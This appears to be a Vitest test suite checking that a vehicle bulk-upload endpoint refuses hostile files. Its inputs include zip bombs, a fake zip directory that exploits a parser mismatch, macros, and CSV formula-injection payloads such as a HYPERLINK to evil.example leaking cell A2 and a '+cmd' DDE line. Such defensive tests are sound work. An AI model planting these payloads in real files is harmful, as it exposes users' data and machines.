import crypto from 'node:crypto';
import { beforeEach, describe, expect, it } from 'vitest';
import { BULK_UPLOAD_HEADERS } from '@showgrid/shared/schemas/vehicle';
import { useTestContext, type TestContext } from '../../../test/helpers/test-app.ts';
import { readSheet } from './read-sheet.ts';
import {
  csvFile,
  insertVehicle,
  setupShow,
  unzip,
  upload,
  vehicleAudits,
  vehicleRows,
  xlsxFile,
  zipFile,
  type Show,
} from '../../../test/factories/vehicle-import.ts';

let ctx!: TestContext;
useTestContext((c) => (ctx = c));

let headers: { authorization: string };
let show: Show;
beforeEach(async () => {
  ({ headers } = await ctx.authAs('admin'));
  show = await setupShow(ctx);
  // One vehicle already there: a refused file must leave it, and only it.
  await insertVehicle(ctx, { eventId: show.eventId, categoryId: show.classicId, vehicleTypeId: show.carTypeId, registrationNo: 'KEEP 1' });
});

const HEADER = [...BULK_UPLOAD_HEADERS];
const goodRow = (reg: string) => [reg, 'Ford', 'Model A', 'Jo', 'Classic Cars', 'Car', '', 'Paid', 'Regular', 'No'];
const MiB = 1024 * 1024;

/** Uploads the file and expects it refused whole with exactly this body, nothing written. */
async function expectRefused(bytes: Buffer, name: string, body: Record<string, unknown>, status = 400) {
  const res = await upload(ctx, headers, { eventId: show.eventId, bytes, name });
  expect(res.json()).toEqual(body);
  expect(res.statusCode).toBe(status);
  expect((await vehicleRows(ctx)).map((v) => v.registrationNo)).toEqual(['KEEP 1']);
  expect(await vehicleAudits(ctx)).toEqual([]);
}

const fileError = (message: string) => ({ file: [message] });

/** A real workbook's parts, to rebuild with something hostile added. */
const workbookParts = async () => unzip(await xlsxFile([HEADER, goodRow('ZIP 1')]));

describe('bulk upload refuses hostile and mislabelled files, changing nothing', () => {
  it('a file over 10 MiB: 413', async () => {
    const big = Buffer.concat([csvFile([HEADER]), Buffer.alloc(10 * MiB, 'a')]);
    await expectRefused(big, 'big.csv', fileError('The file must be at most 10 MB.'), 413);
  });

  it('a name that is not .csv, .xlsx or .xls', async () => {
    await expectRefused(csvFile([HEADER, goodRow('N 1')]), 'vehicles.txt', fileError('Upload a .csv, .xlsx or .xls file.'));
  });

  it('an .xlsx that is really a CSV, an .xls that is really a zip, a zip without a workbook', async () => {
    await expectRefused(csvFile([HEADER, goodRow('N 1')]), 'vehicles.xlsx', fileError('This file is not a valid .xlsx file.'));
    await expectRefused(await xlsxFile([HEADER, goodRow('N 1')]), 'vehicles.xls', fileError('This file is not a valid .xls file.'));
    await expectRefused(
      zipFile([{ name: 'hello.txt', data: Buffer.from('hi') }]),
      'vehicles.xlsx',
      fileError('This file is not a valid .xlsx file.'),
    );
  });

  it('an OLE2 file that is no workbook', async () => {
    const ole2 = Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), crypto.randomBytes(4096)]);
    await expectRefused(ole2, 'vehicles.xls', fileError('This file is not a valid .xls file.'));
  });

  it('a CSV with NUL bytes (binary or UTF-16) and a CSV that is not UTF-8', async () => {
    const withNul = Buffer.concat([csvFile([HEADER]), Buffer.from('NUL 1\0,,,,Classic Cars\r\n')]);
    await expectRefused(withNul, 'vehicles.csv', fileError('This file is not a valid .csv file.'));
    const utf16 = Buffer.from(`\uFEFF${HEADER.join(',')}\r\n`, 'utf16le');
    await expectRefused(utf16, 'vehicles.csv', fileError('This file is not a valid .csv file.'));
    const latin1 = Buffer.from(`${HEADER.join(',')}\r\nL 1,,,Müller,Classic Cars\r\n`, 'latin1');
    await expectRefused(latin1, 'vehicles.csv', fileError('This .csv file is not UTF-8 text. Save it as "CSV UTF-8" and upload it again.'));
  });

  it('a zip bomb: a part that inflates more than 100:1', async () => {
    const parts = await workbookParts();
    const bomb = zipFile([...parts, { name: 'xl/media/padding.bin', data: Buffer.alloc(40 * MiB) }]);
    expect(bomb.length).toBeLessThan(MiB);
    await expectRefused(
      bomb,
      'vehicles.xlsx',
      fileError('This .xlsx file is compressed more than 100:1 (a "zip bomb"); it cannot be read safely.'),
    );
  });

  it('a second directory hidden in the zip comment, which SheetJS would read instead of the checked one', async () => {
    const good = await xlsxFile([HEADER, goodRow('ZIP 1')]);
    // A 20-byte record after the real one: yauzl keeps the real directory (the comment length
    // must match exactly), SheetJS scans back and takes the fake. Only a file whose last record
    // ends it, with no comment, is read.
    const fake = Buffer.alloc(20);
    fake.write('PK\x05\x06', 0, 'latin1');
    const sneaky = Buffer.concat([good, fake]);
    sneaky.writeUInt16LE(fake.length, good.length - 2);
    await expectRefused(sneaky, 'vehicles.xlsx', fileError('This file is not a valid .xlsx file.'));
    const commented = Buffer.concat([good, Buffer.from('hello')]);
    commented.writeUInt16LE(5, good.length - 2);
    await expectRefused(commented, 'vehicles.xlsx', fileError('This file is not a valid .xlsx file.'));
  });

  it('a zip that claims to unpack to more than 50 MiB', async () => {
    const parts = await workbookParts();
    // Random bytes do not compress: 1 MiB claimed as 60 MiB is a ratio of 60:1, but 60 MiB in all.
    const claimed = zipFile([...parts, { name: 'xl/media/photo.bin', data: crypto.randomBytes(MiB), declaredSize: 60 * MiB }]);
    await expectRefused(claimed, 'vehicles.xlsx', fileError('This .xlsx file unpacks to more than 50 MB; it cannot be read safely.'));
  });

  it('a zip whose headers understate what a part inflates to (a liar) is caught while counting', async () => {
    const parts = await workbookParts();
    const liar = zipFile([...parts, { name: 'xl/media/padding.bin', data: Buffer.alloc(30 * MiB), declaredSize: 1 * MiB }]);
    await expectRefused(liar, 'vehicles.xlsx', fileError('This file is not a valid .xlsx file.'));
  });

  it('a zip of more than 1000 parts', async () => {
    const parts = await workbookParts();
    const many = Array.from({ length: 1001 }, (_, i) => ({ name: `xl/media/p${i}.bin`, data: Buffer.from([i % 256]) }));
    await expectRefused(
      zipFile([...parts, ...many]),
      'vehicles.xlsx',
      fileError('This .xlsx file holds more than 1000 parts; it cannot be read safely.'),
    );
  });

  it('macros and links to other workbooks', async () => {
    const parts = await workbookParts();
    await expectRefused(
      zipFile([...parts, { name: 'xl/vbaProject.bin', data: crypto.randomBytes(512) }]),
      'vehicles.xlsx',
      fileError('This .xlsx file contains macros, which are not allowed. Save it as a plain Excel workbook (.xlsx) and upload it again.'),
    );
    await expectRefused(
      zipFile([...parts, { name: 'xl/externalLinks/externalLink1.xml', data: Buffer.from('<externalLink/>') }]),
      'vehicles.xlsx',
      fileError(
        'This .xlsx file links to other workbooks, which is not allowed. Remove the external links (Data › Edit Links › Break Link) and upload it again.',
      ),
    );
  });

  it('an .xlsx with a live formula cell, named by row and column', async () => {
    const file = await xlsxFile([
      HEADER,
      goodRow('F 1'),
      ['F 2', 'Ford', 'Model A', { formula: 'HYPERLINK("http://evil.example","Jo")', result: 'Jo' }, 'Classic Cars'],
    ]);
    await expectRefused(file, 'vehicles.xlsx', fileError('Row 3, Owner Name: formulas are not allowed. Nothing was uploaded.'));
    const inNotes = await xlsxFile([
      [...HEADER, 'Notes'],
      [...goodRow('F 3'), { formula: '1+1', result: 2 }],
    ]);
    await expectRefused(inNotes, 'vehicles.xlsx', fileError('Row 2, Notes: formulas are not allowed. Nothing was uploaded.'));
  });

  it('a CSV with =HYPERLINK(...), +, -, @ or a leading tab; plain signed numbers are data', async () => {
    const payloads: [string, string][] = [
      ['=HYPERLINK("http://evil.example?x="&A2,"Click")', 'Row 3, Owner Name'],
      ['+cmd|" /C calc"!A0', 'Row 3, Owner Name'],
      ['-2+3', 'Row 3, Owner Name'],
      ['@SUM(A1)', 'Row 3, Owner Name'],
      ['\t=1+1', 'Row 3, Owner Name'],
      ['  =1+1', 'Row 3, Owner Name'],
    ];
    for (const [payload, where] of payloads) {
      const file = csvFile([HEADER, goodRow('C 1'), ['C 2', 'Ford', 'Model A', payload, 'Classic Cars']]);
      await expectRefused(file, 'vehicles.csv', fileError(`${where}: formulas are not allowed. Nothing was uploaded.`));
    }
    const numbers = csvFile([HEADER, ['N 1', '-5', '+44', '-0.5', 'Classic Cars', '', '', '', '', '']]);
    const res = await upload(ctx, headers, { eventId: show.eventId, bytes: numbers, name: 'numbers.csv' });
    expect(res.json()).toEqual({ message: '1 of 1 vehicle uploaded.', failed_data: [] });
  });

  describe('more than 20,000 data rows', () => {
    const rows = (n: number) => [HEADER, ...Array.from({ length: n }, (_, i) => [`R ${i}`, '', '', '', 'Nowhere', '', '', '', '', ''])];
    const tooMany = fileError(
      'The file has more than 20,000 rows of vehicles (the last one read is row 20,001). Split it into smaller files. Nothing was uploaded.',
    );

    it('CSV with 20,001 rows', async () => {
      await expectRefused(csvFile(rows(20_001)), 'vehicles.csv', tooMany);
    });

    // Writing 20,001 rows with exceljs alone takes seconds on a busy CI machine.
    it('XLSX with 20,001 rows', { timeout: 90_000 }, async () => {
      await expectRefused(await xlsxFile(rows(20_001)), 'vehicles.xlsx', tooMany);
    });

    it('a row far below a gap of blank lines still counts', async () => {
      const gap = Buffer.concat([csvFile(rows(10)), Buffer.from('\r\n'.repeat(25_000)), csvFile([goodRow('LATE 1')])]);
      await expectRefused(gap, 'vehicles.csv', tooMany);
    });

    it('exactly 20,000 rows (and trailing blank lines) are read: every row fails on its category', async () => {
      const atCap = Buffer.concat([csvFile(rows(20_000)), Buffer.from(',,,\r\n\r\n'.repeat(50))]);
      const res = await upload(ctx, headers, { eventId: show.eventId, bytes: atCap, name: 'vehicles.csv' });
      expect(res.statusCode).toBe(200);
      expect(res.json().message).toBe('No vehicles uploaded.');
      expect(res.json().failed_data).toHaveLength(20_000);
      expect(res.json().failed_data[19_999]).toBe("Row 20001: Category 'Nowhere' is not part of this event.");
    });
  });
});

describe('the parsing worker', () => {
  it('is stopped at its time limit, and the file refused', async () => {
    const source = { format: 'csv' as const, text: `${HEADER.join(',')}\n` };
    await expect(readSheet(source, { timeoutMs: 1, heapMb: 64 })).rejects.toMatchObject({
      statusCode: 400,
      body: fileError('The file took too long to read. Nothing was uploaded.'),
    });
  });

  it('is stopped at its heap limit, and the file refused; the server carries on', async () => {
    // One row of two million cells: far more objects than a 16 MiB heap holds.
    const source = { format: 'csv' as const, text: `${'x,'.repeat(2_000_000)}\n` };
    await expect(readSheet(source, { timeoutMs: 20_000, heapMb: 16 })).rejects.toMatchObject({
      statusCode: 400,
      body: fileError('The file is too large or too complex to read. Nothing was uploaded.'),
    });
    const res = await upload(ctx, headers, { eventId: show.eventId, bytes: csvFile([HEADER, goodRow('AFTER 1')]) });
    expect(res.json().message).toBe('1 of 1 vehicle uploaded.');
  });
});
